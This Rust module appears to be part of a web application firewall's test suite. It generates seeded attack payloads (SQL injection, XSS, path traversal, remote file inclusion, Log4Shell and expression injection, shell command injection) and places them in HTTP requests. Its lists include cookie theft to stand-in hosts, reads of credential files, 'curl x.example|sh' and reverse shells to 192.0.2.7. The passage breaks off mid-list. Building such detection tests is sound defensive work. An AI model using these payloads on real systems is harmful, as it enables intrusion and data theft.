//! Attacks generated from grammars with a fixed seed: each family's
//! pieces (SQL contexts × payloads × terminators × comment, whitespace and
//! case styles; HTML tags × event handlers × payloads × separators ×
//! encodings; traversals × families of sensitive files × encodings...)
//! combined at random, then placed where a client sends values (query,
//! form, JSON, cookie). Written for this project from the grammars of the
//! languages, not from any list of payloads.

use std::fmt::Write as _;

use firewall_core::waf::Request;

/// A deterministic generator (`SplitMix64`): the same seed gives the same
/// cases on every platform.
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Self {
        Self(seed)
    }

    pub fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    pub fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }

    pub fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[self.below(items.len())]
    }

    pub fn chance(&mut self, percent: u64) -> bool {
        self.next() % 100 < percent
    }
}

/// One generated attack: its family and the request carrying it.
pub struct Attack {
    pub family: &'static str,
    pub payload: String,
    pub request: Request<'static>,
}

/// Makes one payload of a family.
type Generator = fn(&mut Rng) -> String;

/// `per_family` attacks of each family, from `seed`.
pub fn attacks(seed: u64, per_family: usize) -> Vec<Attack> {
    // A new family goes last: each family's stream depends on its index.
    let families: [(&'static str, Generator); 18] = [
        ("sqli", sqli),
        ("xss", xss),
        ("lfi", lfi),
        ("rfi", rfi),
        ("java", java),
        ("nosql", nosql_value),
        ("rce", rce),
        ("ssrf", ssrf),
        ("node", node),
        ("proto", proto_path),
        ("php", php),
        ("xss-js", xss_js),
        ("xss-context", xss_context),
        ("xss-encoded", xss_encoded),
        ("xss-template", xss_template),
        ("rce-shell", rce_shell),
        ("rce-win", rce_win),
        ("rce-file", rce_file),
    ];
    let mut out = Vec::new();
    for (index, (family, generate)) in (0u64..).zip(families) {
        // One stream per family: a change to one generator leaves the
        // other families' cases as they were.
        let mut rng = Rng::new(seed ^ (index + 1).wrapping_mul(0x9e37_79b9_7f4a_7c15));
        for _ in 0..per_family {
            let payload = generate(&mut rng);
            let request = match family {
                "nosql" => nosql_request(&mut rng, &payload),
                "ssrf" => url_request(&mut rng, &payload),
                "proto" => proto_request(&mut rng, &payload),
                "xss-context" | "xss-encoded" | "xss-template" => place_markup(&mut rng, &payload),
                "rce-file" => upload_request(&mut rng, &payload),
                _ => place(&mut rng, &payload),
            };
            out.push(Attack {
                family,
                payload,
                request,
            });
        }
    }
    out
}

/// Percent-encodes every byte but letters and digits (and space as `+`
/// in forms, `%20` elsewhere).
pub fn encode(value: &str, space: &str) -> String {
    let mut out = String::new();
    for b in value.bytes() {
        match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' => out.push(b as char),
            b' ' => out.push_str(space),
            _ => {
                let _ = write!(out, "%{b:02X}");
            }
        }
    }
    out
}

/// Places a value where a client sends one: a query argument, a form
/// field, a JSON string or a cookie.
fn place(rng: &mut Rng, value: &str) -> Request<'static> {
    let name = rng.pick(&[
        "id", "q", "search", "page", "file", "name", "redirect", "lang",
    ]);
    match rng.below(4) {
        0 => Request::from_target("GET", format!("/items?{name}={}", encode(value, "%20"))),
        1 => Request::new("POST", "/form").body(
            "application/x-www-form-urlencoded",
            format!("{name}={}", encode(value, "+")),
        ),
        2 => Request::new("POST", "/api/items").body(
            "application/json",
            serde_json::json!({ name: value }).to_string(),
        ),
        _ => Request::from_target("GET", "/account").cookie(name, encode(value, "%20")),
    }
}

/// A keyword in one of the case styles attackers use.
fn case(rng: &mut Rng, word: &str) -> String {
    match rng.below(3) {
        0 => word.to_lowercase(),
        1 => word.to_uppercase(),
        _ => word
            .chars()
            .map(|c| {
                if rng.chance(50) {
                    c.to_ascii_uppercase()
                } else {
                    c.to_ascii_lowercase()
                }
            })
            .collect(),
    }
}

/// SQL: a context closing the value, a payload, a terminator; keywords in
/// random case, spaces as one style of blank or comment.
fn sqli(rng: &mut Rng) -> String {
    let context = rng.pick(&[
        "1", "1'", "1\"", "1)", "1')", "x'", "-1", "admin'", "0\"", "1))", "'", "\"",
    ]);
    let quote = if context.contains('\'') {
        "'"
    } else if context.contains('"') {
        "\""
    } else {
        ""
    };
    let cols = rng.pick(&[
        "null",
        "1,2,3",
        "null,null",
        "@@version,2",
        "user(),database()",
        "1,group_concat(table_name),3",
        "username,password",
    ]);
    let payload = match rng.below(6) {
        // Tautologies and boolean tests.
        0 => {
            let test = rng.pick(&[
                "1=1",
                "2>1",
                "'a'='a'",
                "true",
                "1 like 1",
                "3 between 1 and 5",
                "1 in (1,2)",
                "not 1=2",
                "'x' is not null",
                "ascii(substr(user(),1,1))>64",
                "length(database())=8",
                "(select count(*) from users)>0",
                "1 rlike 1",
            ]);
            format!("{} {test}", rng.pick(&["or", "and", "||", "&&", "xor"]))
        }
        // UNION.
        1 => format!(
            "{} select {cols}{}",
            rng.pick(&["union", "union all", "union distinct"]),
            rng.pick(&[
                "",
                " from users",
                " from information_schema.tables",
                " from dual"
            ])
        ),
        // Stacked queries, in several dialects.
        2 => format!(
            "; {}",
            rng.pick(&[
                "drop table users",
                "select pg_sleep(5)",
                "exec master..xp_cmdshell 'dir'",
                "waitfor delay '0:0:5'",
                "shutdown",
                "insert into users values (1,'a')",
                "update users set role='admin'",
                "delete from logs",
                "declare @x varchar(99)",
                "create table t (a int)",
                "select sleep(5)",
                "truncate table sessions",
            ])
        ),
        // Time based.
        3 => format!(
            "{} {}",
            rng.pick(&["and", "or", "||"]),
            rng.pick(&[
                "sleep(5)",
                "benchmark(5000000,md5(1))",
                "pg_sleep(5)",
                "1=(select 1 from pg_sleep(5))",
                "randomblob(500000000)",
                "(select * from (select(sleep(5)))a)",
                "dbms_pipe.receive_message('a',5)=1",
                "if(1=1,sleep(5),0)",
            ])
        ),
        // Error based.
        4 => format!(
            "and {}",
            rng.pick(&[
                "extractvalue(1,concat(0x7e,version()))",
                "updatexml(1,concat(0x7e,user()),1)",
                "1=convert(int,@@version)",
                "cast(version() as int)=1",
                "exp(~(select * from (select user())a))",
                "1=utl_inaddr.get_host_name((select banner from v$version where rownum=1))",
            ])
        ),
        // ORDER BY / GROUP BY probing.
        _ => format!(
            "{} {}",
            rng.pick(&["order by", "group by"]),
            rng.pick(&["1", "3", "10", "1,2"])
        ),
    };
    // Rebalance the quote the query will close, or comment it out.
    let end = match rng.below(4) {
        0 => rng.pick(&["--", "-- -", "#", "/*", ";--"]).to_owned(),
        1 if !quote.is_empty() => format!(" and {quote}1{quote}={quote}1"),
        _ => String::new(),
    };
    let text = format!("{context} {payload}{end}");
    restyle(rng, &text)
}

/// Keywords in random case, and spaces as blanks or comments.
fn restyle(rng: &mut Rng, text: &str) -> String {
    let blank = rng.pick(&[" ", " ", "/**/", "\t", "\n", "  ", "/*x*/"]);
    let mut out = String::new();
    for (i, word) in text.split(' ').enumerate() {
        if i > 0 {
            out.push_str(blank);
        }
        let styled = if word.chars().all(|c| c.is_ascii_alphabetic()) && word.len() > 2 {
            let styled = case(rng, word);
            if rng.chance(5) {
                format!("/*!50000{styled}*/")
            } else {
                styled
            }
        } else {
            word.to_owned()
        };
        out.push_str(&styled);
    }
    out
}

/// HTML/JS: a breakout from the context the value lands in, then one
/// construct that runs script (a script element, a tag with an event
/// handler, a script URL in a URL attribute, attributes after a quote, SVG
/// animation, `srcdoc`, a style), each built from its parts: tags ×
/// events × separators × quoting × case × character-reference encodings.
fn xss(rng: &mut Rng) -> String {
    let breakout = rng.pick(&[
        "",
        "",
        "\">",
        "'>",
        ">",
        "</textarea>",
        "</title>",
        "</style>",
        "</noscript>",
        "--></script>",
        "</script>",
        "\"/>",
        "]]>",
        "-->",
    ]);
    let call = js_call(rng);
    let element = match rng.below(8) {
        0 => script_element(rng, &call),
        1..=3 => handler_element(rng, &call),
        4 => url_element(rng, &call),
        5 => attribute_breakout(rng, &call),
        6 => svg_element(rng, &call),
        _ => embedded_document(rng, &call),
    };
    format!("{breakout}{element}")
}

/// A script call: a dialog, a sink, a fetch, in one of the styles used to
/// avoid plain `alert(`.
fn js_call(rng: &mut Rng) -> String {
    let sink = rng.pick(&["alert", "prompt", "confirm", "print", "eval", "fetch"]);
    let arg = rng.pick(&[
        "1",
        "document.domain",
        "document.cookie",
        "'x'",
        "/x/.source",
    ]);
    match rng.below(8) {
        0 => format!("{sink}({arg})"),
        1 => format!("{sink}`{arg}`"),
        2 => format!("top['{}'+'{}']({arg})", &sink[..2], &sink[2..]),
        3 => format!("[{arg}].find({sink})"),
        4 => format!("window.onerror={sink};throw {arg}"),
        5 => format!("import('//x.example/{sink}.js')"),
        6 => format!("location='//x.example/?'+{arg}"),
        _ => format!("setTimeout('{sink}({arg})')"),
    }
}

/// XSS that lands inside a script: a breakout from a JavaScript string
/// (`'`, `"`, a template, with or without a backslash before the quote,
/// closing brackets after it), an operator joining the payload to the
/// expression, a script call in one of its obfuscations, and a tail that
/// keeps the rest of the script valid; or, as an expression of its own, a
/// call that runs code. Built from the parts, not listed.
fn xss_js(rng: &mut Rng) -> String {
    let call = obfuscated_call(rng);
    let gap = rng.pick(&["", "", " ", "\n", "/**/"]);
    if rng.chance(20) {
        // The value is the expression (`var x = VALUE;`).
        return code_running_call(rng);
    }
    let quote = rng.pick(&["'", "\"", "`"]);
    if quote == "`" && rng.chance(40) {
        return format!("${{{gap}{call}{gap}}}");
    }
    let escape = if rng.chance(25) { "\\" } else { "" };
    let closers = rng.pick(&["", "", "", ")", "}", "]", "))", "})"]);
    let joiner = rng.pick(&[";", ";", "-", "+", "*", ",", "||", "&&", "==", "?", "}"]);
    let tail = match rng.below(4) {
        0 => "//".to_owned(),
        1 => format!("{joiner}{quote}"),
        2 => format!(";var x{gap}={gap}{quote}"),
        _ => "<!--".to_owned(),
    };
    format!("{escape}{quote}{closers}{gap}{joiner}{gap}{call}{gap}{tail}")
}

/// A script call: a sink and an argument, called in one of the ways that
/// avoid a plain `alert(`.
fn obfuscated_call(rng: &mut Rng) -> String {
    let sink = rng.pick(&["alert", "prompt", "confirm", "print", "eval", "fetch"]);
    let arg = rng.pick(&[
        "1",
        "document.domain",
        "document.cookie",
        "'x'",
        "/x/.source",
    ]);
    let split = 1 + rng.below(sink.len() - 1);
    let (head, rest) = sink.split_at(split);
    match rng.below(12) {
        0 => format!("{sink}({arg})"),
        1 => format!("{sink}`{arg}`"),
        2 => format!("{}['{head}'+'{rest}']({arg})", global(rng)),
        3 => format!("{}[/{head}/.source+/{rest}/.source]({arg})", global(rng)),
        4 => format!("[{arg}].find({sink})"),
        5 => format!("(0,{sink})({arg})"),
        6 => format!("{sink}.call(null,{arg})"),
        7 => format!(
            "\\u{:04x}{}({arg})",
            u32::from(sink.as_bytes()[0]),
            &sink[1..]
        ),
        8 => format!("{}[{}]({arg})", global(rng), jsfuck_string(sink)),
        9 => format!("location='//x.example/?'+{arg}"),
        10 => format!("window.onerror={sink};throw {arg}"),
        _ => code_running_call(rng),
    }
}

/// A call that runs code from a string or opens the page's objects, or
/// calls a function without parentheses: the calls that count even
/// without a breakout.
fn code_running_call(rng: &mut Rng) -> String {
    let code = format!(
        "{}({})",
        rng.pick(&["alert", "prompt", "confirm"]),
        rng.pick(&["1", "document.domain"])
    );
    let dialog = rng.pick(&["alert", "prompt", "confirm"]);
    match rng.below(10) {
        0 => format!("eval(atob('{}'))", base64(code.as_bytes())),
        8 => format!("onerror={dialog};throw 1"),
        9 => format!("[].sort.call`${{{dialog}}}1`"),
        1 => format!("settimeout('{code}')"),
        2 => format!("setInterval`{code}`"),
        3 => format!("Function('{code}')()"),
        4 => format!("[].constructor.constructor('{code}')()"),
        5 => format!("{}['ev'+'al']('{code}')", global(rng)),
        6 => format!("document.write('<img src=x onerror={code}>')"),
        _ => format!("eval(String.fromCharCode({}))", char_codes(&code)),
    }
}

/// One of the names of the page's global object.
fn global(rng: &mut Rng) -> &'static str {
    rng.pick(&[
        "window",
        "top",
        "self",
        "parent",
        "frames",
        "globalThis",
        "this",
    ])
}

/// `text` as `JSFuck`: each letter taken from `false`, `true`, `undefined`
/// or `NaN` written with `[]`, `!`, `+`, `(` and `)` only.
fn jsfuck_string(text: &str) -> String {
    let number = |n: usize| match n {
        0 => "+[]".to_owned(),
        1 => "+!+[]".to_owned(),
        _ => vec!["!+[]"; n].join("+"),
    };
    let words = ["(![]+[])", "(!![]+[])", "([][[]]+[])", "(+[![]]+[])"];
    let spelled = ["false", "true", "undefined", "nan"];
    text.chars()
        .map(|c| {
            spelled
                .iter()
                .zip(words)
                .find_map(|(word, code)| word.find(c).map(|at| format!("{code}[{}]", number(at))))
                .unwrap_or_else(|| format!("'{c}'"))
        })
        .collect::<Vec<_>>()
        .join("+")
}

/// The decimal character codes of `text`, comma-separated.
fn char_codes(text: &str) -> String {
    text.bytes()
        .map(|b| b.to_string())
        .collect::<Vec<_>>()
        .join(",")
}

/// Standard base64 with padding.
fn base64(bytes: &[u8]) -> String {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let n = chunk.iter().fold(0u32, |n, &b| n << 8 | u32::from(b)) << (8 * (3 - chunk.len()));
        for k in 0..4 {
            if k <= chunk.len() {
                out.push(char::from(ALPHABET[(n >> (18 - 6 * k)) as usize & 63]));
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// A blank between a tag's name and attributes, or between attributes:
/// what the HTML tokenizer accepts there.
fn tag_blank(rng: &mut Rng) -> &'static str {
    rng.pick(&[" ", " ", "/", "\t", "\n", "\r", "\u{c}", "  ", " /"])
}

/// An attribute value in one quoting style (an unquoted value with a
/// blank in it is quoted instead, as it would end at the blank).
fn quoted(rng: &mut Rng, value: &str) -> String {
    let q = rng.pick(&["\"", "'", "", "`"]);
    let q = if q.is_empty() && value.contains([' ', '\t', '\n', '>']) {
        "\""
    } else {
        q
    };
    let q = if value.contains(q) && !q.is_empty() {
        ""
    } else {
        q
    };
    format!("{q}{value}{q}")
}

/// A script call as an attribute value: plain or with letters as
/// character references.
fn handler_value(rng: &mut Rng, call: &str) -> String {
    if rng.chance(25) {
        entities(rng, call)
    } else {
        call.to_owned()
    }
}

/// `<script>call</script>` in one of its forms.
fn script_element(rng: &mut Rng, call: &str) -> String {
    let open = case(rng, "script");
    let close = case(rng, "script");
    match rng.below(4) {
        0 => format!("<{open}>{call}</{close}>"),
        1 => format!("<{open}{}x>{call}</{close}>", tag_blank(rng)),
        2 => format!("<{open} src={}></{close}>", quoted(rng, "//x.example/x.js")),
        _ => format!("<x:{open}>{call}</x:{close}>"),
    }
}

/// A tag, the attributes it needs, an event handler of one of the DOM's
/// event families, and the end of the tag (or none: the page closes it).
fn handler_element(rng: &mut Rng, call: &str) -> String {
    let tag = rng.pick(&[
        "img src=x",
        "image src=1",
        "svg",
        "body",
        "iframe",
        "video src=1",
        "audio src=1",
        "video><source src=x",
        "details open",
        "input autofocus",
        "select autofocus",
        "textarea autofocus",
        "marquee",
        "object",
        "embed src=1",
        "math",
        "a href=#",
        "div",
        "span tabindex=1",
        "style",
        "xss",
        "custom-tag",
        "form",
        "button",
        "keygen autofocus",
        "frameset",
        "table background=1",
        "picture",
        "meter",
        "dialog open",
    ]);
    let event = rng.pick(&[
        "onerror",
        "onload",
        "onmouseover",
        "onmouseenter",
        "onfocus",
        "onfocusin",
        "onblur",
        "ontoggle",
        "onbegin",
        "onend",
        "onanimationstart",
        "onanimationend",
        "ontransitionend",
        "onpointerenter",
        "onpointerdown",
        "onclick",
        "ondblclick",
        "onauxclick",
        "oncontextmenu",
        "onwheel",
        "onscroll",
        "onstart",
        "onpageshow",
        "onhashchange",
        "onmessage",
        "onkeydown",
        "oninput",
        "onchange",
        "onsearch",
        "oncopy",
        "onpaste",
        "ondrag",
        "ontouchstart",
        "onbeforetoggle",
        "onloadstart",
        "oncanplay",
        "onplay",
        "ontimeupdate",
    ]);
    let mut tag = case(rng, tag);
    // An unquoted value before a `/` would take the `/` and the handler.
    if tag.contains('=') && rng.chance(50) {
        tag.push(' ');
    }
    let blank = tag_blank(rng);
    let value = handler_value(rng, call);
    let value = quoted(rng, &value);
    let end = rng.pick(&[">", ">", "//", "", " x>", "/>"]);
    format!("<{tag}{blank}{}={value}{end}", case(rng, event))
}

/// A script URL scheme, disguised the ways browsers still read it: case,
/// character references, blanks and controls they drop.
fn script_scheme(rng: &mut Rng) -> String {
    let scheme = rng.pick(&["javascript", "javascript", "vbscript"]);
    let mut out = String::new();
    if rng.chance(20) {
        out.push_str(rng.pick(&["&#x20;", "&#1;", " ", "&#0000032;", "&#x0e;"]));
    }
    for (i, c) in scheme.chars().enumerate() {
        if i > 0 && rng.chance(8) {
            out.push_str(rng.pick(&["&#x09;", "&#10;", "&#x0D;", "&tab;", "&newline;"]));
        }
        if rng.chance(15) {
            let _ = write!(out, "&#{};", c as u32);
        } else if rng.chance(10) {
            // Without `;`: a letter after it ends the number.
            let _ = write!(out, "&#{}", c as u32);
        } else {
            out.push(c);
        }
    }
    let colon = rng.pick(&[":", ":", ":", "&colon;", "&#58;", "&#x3a;"]);
    format!("{}{colon}", case(rng, &out))
}

/// A URL attribute holding a script URL or a data URL of a document.
fn url_element(rng: &mut Rng, call: &str) -> String {
    let tag = rng.pick(&[
        "a href",
        "iframe src",
        "frame src",
        "form action",
        "form><button formaction",
        "input type=image formaction",
        "object data",
        "embed src",
        "math><mi xlink:href",
        "svg><a xlink:href",
        "svg><a href",
        "isindex action",
        "table background",
        "img dynsrc",
        "base href",
    ]);
    let url = if rng.chance(20) {
        let document = rng.pick(&[
            "text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "text/html,&lt;script&gt;alert(1)&lt;/script&gt;",
            "image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
            "application/xhtml+xml,x",
        ]);
        format!("data:{document}")
    } else {
        format!("{}{call}", script_scheme(rng))
    };
    let blank = tag_blank(rng);
    let tag = case(rng, tag).replacen(' ', blank, 1);
    format!("<{tag}={}>x", quoted(rng, &url))
}

/// A quote closing the attribute the value landed in, then attributes:
/// an event handler (with what makes it fire) or a style.
fn attribute_breakout(rng: &mut Rng, call: &str) -> String {
    let q = rng.pick(&["\"", "'", "`", ""]);
    let blank = tag_blank(rng);
    let value = handler_value(rng, call);
    let attributes = match rng.below(5) {
        0 => format!("autofocus onfocus={q}{value}"),
        1 => format!("onmouseover={q}{value}"),
        2 => format!("style=animation-name:x onanimationstart={q}{value}"),
        3 => format!("onerror={q}{value}"),
        _ => format!("style={q}x:expression({value})"),
    };
    format!("{q}{blank}{}", case(rng, &attributes))
}

/// SVG animating an attribute into a script: `values`/`to` holding a
/// script URL for `href`, or `attributeName` naming a handler.
fn svg_element(rng: &mut Rng, call: &str) -> String {
    let scheme = script_scheme(rng);
    match rng.below(3) {
        0 => format!(
            "<svg><a><{} attributeName=href values={}/><text y=20>x</text></a>",
            rng.pick(&["animate", "set", "animate"]),
            quoted(rng, &format!("{scheme}{call}"))
        ),
        1 => format!(
            "<svg><set attributeName=on{} to={}>",
            rng.pick(&["load", "mouseover", "click", "begin"]),
            quoted(rng, call)
        ),
        _ => format!(
            "<svg><a xlink:href={}><rect/></a>",
            quoted(rng, &format!("{scheme}{call}"))
        ),
    }
}

/// A document inside an attribute or a style: `srcdoc`, a style with an
/// expression or a script URL, a refresh to a script URL.
fn embedded_document(rng: &mut Rng, call: &str) -> String {
    let scheme = script_scheme(rng);
    match rng.below(4) {
        0 => format!(
            "<iframe srcdoc=\"&lt;img src=x onerror={}&gt;\">",
            call.replace('"', "&quot;")
        ),
        1 => format!(
            "<div style={}>",
            quoted(rng, &format!("background:url({scheme}{call})"))
        ),
        2 => format!("<x style=\"width:expression({})\">", call.replace('"', "'")),
        _ => format!(
            "<meta http-equiv=refresh content=\"0;url={scheme}{}\">",
            call.replace('"', "'")
        ),
    }
}

/// Some of a text's letters as HTML character references.
fn entities(rng: &mut Rng, text: &str) -> String {
    text.chars()
        .map(|c| {
            if c.is_ascii_alphabetic() && rng.chance(40) {
                if rng.chance(50) {
                    format!("&#{};", c as u32)
                } else {
                    format!("&#x{:x};", c as u32)
                }
            } else {
                c.to_string()
            }
        })
        .collect()
}

/// A sensitive file of one family (Unix system, Windows system, web
/// application), and whether it is written with backslashes.
fn sensitive_file(rng: &mut Rng) -> (&'static str, bool) {
    let unix = [
        "etc/passwd",
        "etc/shadow",
        "etc/hosts",
        "etc/group",
        "etc/issue",
        "etc/crontab",
        "proc/self/environ",
        "proc/self/cmdline",
        "proc/version",
        "proc/1/maps",
        "root/.ssh/id_rsa",
        "home/ubuntu/.bash_history",
        "var/log/apache2/access.log",
        "var/log/nginx/error.log",
        "usr/local/etc/php.ini",
        "etc/nginx/nginx.conf",
        "etc/apache2/apache2.conf",
        "etc/mysql/my.cnf",
        "etc/ssh/sshd_config",
        "etc/os-release",
        "var/lib/mysql/mysql/user.MYD",
        "var/mail/root",
        "var/spool/cron/crontabs/root",
        "usr/local/apache2/conf/httpd.conf",
        "opt/lampp/etc/httpd.conf",
        "sys/class/net/eth0/address",
        "root/.bash_history",
        "home/admin/.profile",
    ];
    let windows = [
        "windows/win.ini",
        "windows/system32/drivers/etc/hosts",
        "boot.ini",
        "windows/system32/config/sam",
        "inetpub/wwwroot/web.config",
        "windows/repair/sam",
        "windows/panther/unattend.xml",
        "windows/system32/inetsrv/config/applicationHost.config",
        "sysprep.inf",
        "users/administrator/ntuser.dat",
        "programdata/mysql/my.ini",
        "xampp/apache/conf/httpd.conf",
        "windows/debug/netsetup.log",
        "windows/system32/config/regback/sam",
        "program files/mysql/my.ini",
        "winnt/system32/cmd.exe",
    ];
    let web = [
        "web.config",
        ".env",
        ".git/config",
        ".git/HEAD",
        ".htaccess",
        ".htpasswd",
        "WEB-INF/web.xml",
        "wp-config.php",
        "config/database.yml",
        ".aws/credentials",
        ".ssh/authorized_keys",
        ".npmrc",
        ".docker/config.json",
        "app/etc/env.php",
        ".svn/entries",
        "composer.json",
    ];
    match rng.below(3) {
        0 => (rng.pick(&unix), false),
        1 => (rng.pick(&windows), true),
        _ => (rng.pick(&web), rng.chance(30)),
    }
}

/// Path traversal: a traversal in one encoding, repeated, then a file of
/// one of the sensitive families (Unix system files, `/proc`, Windows
/// drive paths with backslashes, web application secrets, dotfiles).
fn lfi(rng: &mut Rng) -> String {
    let (file, windows_style) = sensitive_file(rng);
    let up = rng.pick(&[
        "../",
        "..\\",
        "..%2f",
        "%2e%2e/",
        "%2e%2e%2f",
        "..%5c",
        "%252e%252e%252f",
        "....//",
        "..%c0%af",
        "%c0%ae%c0%ae/",
        ".%2e/",
        "..;/",
        "..//",
        "%u002e%u002e/",
        "..%255c",
    ]);
    let depth = 1 + rng.below(7);
    let file = if windows_style {
        file.replace('/', "\\")
    } else {
        file.to_owned()
    };
    let start = match rng.below(6) {
        0 | 3 if windows_style => rng
            .pick(&["c:\\", "C:/", "c:\\\\", "\\\\?\\c:\\", "D:\\"])
            .to_owned(),
        1 | 3 if !windows_style => "/".to_owned(),
        2 => rng.pick(&["file:///", "file://localhost/"]).to_owned(),
        _ => up.repeat(depth),
    };
    let suffix = rng.pick(&["", "", "", "%00", "%00.jpg", "?", "#"]);
    format!("{start}{file}{suffix}")
}

/// RFI: a remote URL, with the trailing `?` or `#` that cuts off what the
/// application appends, or an unusual scheme.
fn rfi(rng: &mut Rng) -> String {
    let scheme = rng.pick(&[
        "http://",
        "https://",
        "ftp://",
        "ftps://",
        "//",
        "\\\\",
        "HtTp://",
        "http:\\\\",
    ]);
    let host = rng.pick(&[
        "evil.example",
        "192.0.2.7",
        "attacker.example:8080",
        "3232235777",
        "0xc0000207",
        "x.example.net",
        "[2001:db8::7]",
    ]);
    let path = rng.pick(&[
        "/shell.txt",
        "/c99.php",
        "/x",
        "/payload.txt",
        "/inc/config.php",
        "/",
    ]);
    let end = rng.pick(&["?", "#", "??", "%00", "?x=", "%23", "%3f"]);
    match rng.below(5) {
        0 => format!(
            "{}{}",
            rng.pick(&[
                "php://input",
                "php://filter/convert.base64-encode/resource=",
                "expect://",
                "data://text/plain;base64,",
                "phar://",
                "zip://",
                "gopher://",
                "dict://",
                "jar:http://"
            ]),
            rng.pick(&[
                "id",
                "index.php",
                "PD9waHAgc3lzdGVtKCdpZCcpOz8+",
                "evil.example/x.zip#a"
            ])
        ),
        _ => format!("{scheme}{host}{path}{end}"),
    }
}

/// Java: `Log4Shell` lookups with nested obfuscation, OGNL, `SpEL`, EL,
/// serialized objects and gadget class names.
fn java(rng: &mut Rng) -> String {
    match rng.below(5) {
        0 | 1 => {
            let jndi: String = "jndi"
                .chars()
                .map(|c| match rng.below(5) {
                    0 => format!("${{lower:{c}}}"),
                    1 => format!("${{upper:{c}}}"),
                    2 => format!("${{::-{c}}}"),
                    3 => format!("${{env:NOPE:-{c}}}"),
                    _ => c.to_string(),
                })
                .collect();
            let proto = rng.pick(&["ldap", "ldaps", "rmi", "dns", "iiop", "nis", "nds", "corba", "http"]);
            let proto = if rng.chance(30) {
                proto.chars().fold(String::new(), |mut out, c| {
                    let _ = write!(out, "${{lower:{c}}}");
                    out
                })
            } else {
                proto.to_owned()
            };
            format!("${{{jndi}:{proto}://x.example/{}}}", rng.pick(&["a", "${sys:java.version}", "${env:AWS_SECRET_ACCESS_KEY}", "Exploit"]))
        }
        2 => rng
            .pick(&[
                "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
                "${#context['xwork.MethodAccessor.denyMethodExecution']=false}",
                "%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'id'})).start()}",
                "(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())",
                "%{@java.lang.System@getProperty('user.dir')}",
                "${@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream())}",
            ])
            .to_owned(),
        3 => rng
            .pick(&[
                "T(java.lang.Runtime).getRuntime().exec('id')",
                "#{T(java.lang.System).getenv()}",
                "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
                "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null)}",
                "${pageContext.request.getSession().setAttribute('a',1)}",
                "${applicationScope}",
                "#{session.setAttribute('x',1)}",
                "new java.lang.ProcessBuilder('id').start()",
            ])
            .to_owned(),
        _ => rng
            .pick(&[
                "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw",
                "aced00057372001a6f72672e6170616368652e636f6d6d6f6e732e636f6c6c656374696f6e73",
                "org.apache.commons.collections.functors.InvokerTransformer",
                "com.sun.rowset.JdbcRowSetImpl",
                "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://x.example/a\",\"autoCommit\":true}",
                "java.lang.Runtime",
                "org.springframework.context.support.ClassPathXmlApplicationContext",
                "H4sIAAAAAAAAAFvzloG1uIhBNzk/Vy+5KDUls6QYAKzgLp0VAAAA",
            ])
            .to_owned(),
    }
}

/// Unix and Windows command injection from the shell grammar: a context
/// the value closes, a separator, a command of one family with its
/// arguments, the command word obfuscated one of the ways a shell undoes
/// (quotes, backslashes, empty variables, globs, absolute paths, brace
/// expansion, `cmd` carets) and blanks written as `${IFS}` and the like.
fn rce(rng: &mut Rng) -> String {
    if rng.chance(25) {
        return windows_rce(rng);
    }
    let sep = rng.pick(&[
        ";", "|", "||", "&&", "&", "\n", "`", "$(", "\r\n", "; ", " | ", " && ",
    ]);
    let (word, args) = unix_command(rng);
    let blank = rng.pick(&[" ", " ", " ", "${IFS}", "$IFS$9", "\t", "${IFS%?}"]);
    let command = if args.is_empty() {
        obfuscate_word(rng, word)
    } else if rng.chance(10) {
        format!("{{{word},{}}}", args.replace(' ', ","))
    } else {
        format!(
            "{}{blank}{}",
            obfuscate_word(rng, word),
            args.replace(' ', blank)
        )
    };
    let close = match sep {
        "`" => "`",
        "$(" => ")",
        _ => "",
    };
    format!(
        "{}{sep}{command}{close}",
        rng.pick(&[
            "1",
            "x",
            "",
            "127.0.0.1",
            "a.txt",
            "1'",
            "x\"",
            "foo.example"
        ])
    )
}

/// A Unix command word and its arguments, from one family: reading files,
/// recon, fetching, reverse shells, interpreters, file changes, timing.
fn unix_command(rng: &mut Rng) -> (&'static str, &'static str) {
    let families: [&[(&str, &str)]; 7] = [
        &[
            ("cat", "/etc/passwd"),
            ("tac", "/etc/shadow"),
            ("head", "-n 5 /etc/hosts"),
            ("tail", "/var/log/auth.log"),
            ("more", "/etc/issue"),
            ("nl", "/proc/self/environ"),
            ("less", "~/.ssh/id_rsa"),
            ("xxd", "/etc/passwd"),
        ],
        &[
            ("id", ""),
            ("whoami", ""),
            ("uname", "-a"),
            ("hostname", ""),
            ("ifconfig", ""),
            ("ps", "aux"),
            ("ls", "-la /"),
            ("env", ""),
        ],
        &[
            ("wget", "http://x.example/s -O /tmp/s"),
            ("curl", "-s http://x.example/s -o /tmp/s"),
            ("curl", "x.example|sh"),
            ("tftp", "-i 192.0.2.7 get s"),
        ],
        &[
            ("nc", "-e /bin/sh 192.0.2.7 4444"),
            ("ncat", "192.0.2.7 4444 -e /bin/bash"),
            ("bash", "-i >& /dev/tcp/192.0.2.7/4444 0>&1"),
